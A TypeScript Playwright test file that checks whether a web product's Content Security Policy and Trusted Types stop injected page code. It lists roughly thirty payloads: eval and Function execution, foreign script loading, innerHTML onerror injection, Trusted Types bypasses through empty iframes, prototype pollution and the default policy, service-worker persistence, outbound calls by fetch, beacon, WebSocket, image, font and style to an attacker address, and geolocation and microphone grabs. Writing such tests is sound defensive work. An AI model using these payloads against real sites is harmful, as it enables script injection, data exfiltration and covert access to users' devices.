import type { BrowserContext } from '@playwright/test'
import { bothWays, changesAnswers, pagePolicies, type Outcome, type World } from './both-ways.ts'
import { hitPath } from './foreign-server.ts'

/**
 * What code tries that runs in a page without being released: to bring more code, to tell somebody else, to stay, to take what the page may use. Each is the body of a function
 * with `at`, an address of the attacker's, `code`, a text that shows that it ran, and `done`, to say that it got what it wanted.
 */
const tries: Readonly<Record<string, string>> = {
  'code from text by eval': 'globalThis.eval(code)',
  'code from text by Function': 'new Function(code)()',
  'code from text by a timer': 'setTimeout(code, 0)',
  'a foreign module by import': 'await import(at)',
  'a module from text by import': 'await import("data:text/javascript," + encodeURIComponent(code))',
  'a foreign script': 'const script = document.createElement("script"); script.src = at; document.body.append(script)',
  'a script from text': 'const script = document.createElement("script"); script.text = code; document.body.append(script)',
  'a script from a blob': 'const script = document.createElement("script"); script.src = URL.createObjectURL(new Blob([code])); document.body.append(script)',
  'markup from text': 'const place = document.createElement("div"); document.body.append(place); place.innerHTML = `<img src="/no/picture.png" onerror="${code.replaceAll(\'"\', "&quot;")}">`',
  'markup from text beside an element': 'document.body.insertAdjacentHTML("beforeend", `<img src="/no/picture.png" onerror="${code.replaceAll(\'"\', "&quot;")}">`)',
  'a handler from text': 'const place = document.createElement("b"); place.setAttribute("onclick", code); document.body.append(place); place.click()',
  'a foreign script by a policy of its own': 'const { createPolicy } = globalThis.trustedTypes; const policy = createPolicy.call(globalThis.trustedTypes, "attack", { createScriptURL: (x) => x }); const script = document.createElement("script"); script.src = policy.createScriptURL(at); document.body.append(script)',
  'a foreign script by the loader\'s policy': 'const policy = TrustedTypePolicyFactory.prototype.createPolicy.call(trustedTypes, name, { createScriptURL: (x) => x }); const script = document.createElement("script"); script.src = policy.createScriptURL(at); document.body.append(script)',
  'a foreign script by the policy of a module': 'const policy = trustedTypes.createPolicy(module, { createScriptURL: (x) => x }); const script = document.createElement("script"); script.src = policy.createScriptURL(at); document.body.append(script)',
  'code by a default policy': 'TrustedTypePolicyFactory.prototype.createPolicy.call(trustedTypes, standing, { createHTML: (x) => x, createScript: (x) => x, createScriptURL: (x) => x }); const script = document.createElement("script"); script.text = code; document.body.append(script)',
  'a foreign script by a policy of an empty frame': 'const frame = document.createElement("iframe"); document.body.append(frame); const factory = frame.contentWindow.trustedTypes; const policy = factory.createPolicy(name, { createScriptURL: (x) => x }); const script = document.createElement("script"); script.src = policy.createScriptURL(at); document.body.append(script)',
  'markup by a policy of an empty frame': 'const frame = document.createElement("iframe"); document.body.append(frame); const policy = frame.contentWindow.trustedTypes.createPolicy(name, { createHTML: (x) => x }); const place = document.createElement("div"); document.body.append(place); place.innerHTML = policy.createHTML(`<img src="/no/picture.png" onerror="${code.replaceAll(\'"\', "&quot;")}">`)',
  'a foreign script after a changed prototype': 'Object.prototype.createScriptURL = (x) => x; try { const policy = TrustedTypePolicyFactory.prototype.createPolicy.call(trustedTypes, name, {}); const script = document.createElement("script"); script.src = policy.createScriptURL(at); document.body.append(script) } finally { delete Object.prototype.createScriptURL }',
  'a worker from a blob': 'await new Promise((resolve) => { new Worker(URL.createObjectURL(new Blob([`postMessage(1)`]))).onmessage = () => { done(); resolve() } })',
  'a worker from text': 'await new Promise((resolve) => { new Worker("data:text/javascript,postMessage(1)").onmessage = () => { done(); resolve() } })',
  'a shared worker from a blob': 'await new Promise((resolve) => { const { port } = new SharedWorker(URL.createObjectURL(new Blob([`onconnect = ({ ports }) => ports[0].postMessage(1)`]))); port.onmessage = () => { done(); resolve() } })',
  'a service worker that stays': 'await navigator.serviceWorker.register(worker); done()',
  'a call by fetch': 'await fetch(at)',
  'a call by fetch that sees no answer': 'await fetch(at, { mode: "no-cors", method: "POST", body: "told" })',
  'a call by XMLHttpRequest': 'const call = new XMLHttpRequest(); call.open("GET", at); call.send()',
  'a call by a beacon': 'navigator.sendBeacon(at, "told")',
  'a call by WebSocket': 'new WebSocket(at.replace("http", "ws"))',
  'a call by EventSource': 'new EventSource(at)',
  'a call by a picture': 'new Image().src = at',
  'a call by a sound': 'const sound = new Audio(); sound.preload = "auto"; sound.src = at; sound.load()',
  'a call by letters': 'await new FontFace("told", `url("${at}")`).load()',
  'a call by a style': 'document.body.style.setProperty("--told", "1"); document.body.style.backgroundImage = `url("${at}")`',
  'a call by a foreign frame': 'const frame = document.createElement("iframe"); frame.src = at; document.body.append(frame)',
  'a call by a page fetched ahead': 'const link = document.createElement("link"); link.rel = "prefetch"; link.href = at; document.head.append(link)',
  'the renter\'s place': 'await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => { done(); resolve() }, reject))',
  'the renter\'s microphone': '(await navigator.mediaDevices.getUserMedia({ audio: true })).getTracks(); done()',
}

/** What a page has that code of another page's knows. */
interface Known {
  /** A Trusted Types policy that the page may have, and one of a module's. */
  readonly policy: string
  readonly module: string
  /** A script of the page's own origin that a worker could be made of; none where there is none. */
  readonly worker?: string
  /** The cookie of a renter's session, where the page needs one. */
  readonly cookie?: Cookie
}

/** A cookie, as a browser's context takes it. */
export type Cookie = Parameters<BrowserContext['addCookies']>[0][number]

/** Lets such code run in the page at an address of the product. */
export async function runsCode(world: World, place: string, address: string, known: Known): Promise<readonly Outcome[]> {
  const made = Object.entries(tries).filter(([name]) => known.worker !== undefined || name !== 'a service worker that stays')
  const outcomes = await bothWays(world, made.map(([name]) => name), async ({ run, isBare, context }) => {
    const { origin } = new URL(address)
    const opened = await context({ geolocation: { latitude: 37, longitude: -8 }, permissions: ['geolocation', 'microphone'] })
    await changesAnswers(opened, origin, isBare ? { without: pagePolicies } : {})
    if (known.cookie) await opened.addCookies([known.cookie])
    const page = await opened.newPage()
    await page.goto(address, { waitUntil: 'load' })
    const texts = made.map(([name, body]) => ({ name, body, at: `${world.foreign.origin()}${hitPath(run, name)}` }))
    // Names that nobody took are what a page without its own policies has.
    const names = isBare ? ['attack-1', 'attack-2', 'attack-3'] : [known.policy, known.module, 'default']
    // Text becomes code freely while a debugger's own statement runs, so each try waits for its end.
    await page.evaluate(`(() => { const [name, module, standing] = ${JSON.stringify(names)}, worker = ${JSON.stringify(known.worker ?? '')}; globalThis.loot ??= [];
      ${texts.map((each) => `void (async () => { const at = ${JSON.stringify(each.at)}, code = ${JSON.stringify(`globalThis.loot.push(${JSON.stringify(each.name)})`)}, done = () => { globalThis.loot.push(${JSON.stringify(each.name)}) }; await new Promise((resolve) => setTimeout(resolve, 0)); ${each.body} })().catch(() => undefined)`).join('\n')} })()`)
    return async () => [...world.foreign.hits(run), ...(await page.evaluate(() => (Reflect.get(globalThis, 'loot') as string[] | undefined) ?? []).catch(() => []))]
  })
  return outcomes.map((outcome) => ({ ...outcome, what: `${place}: ${outcome.what}` }))
}
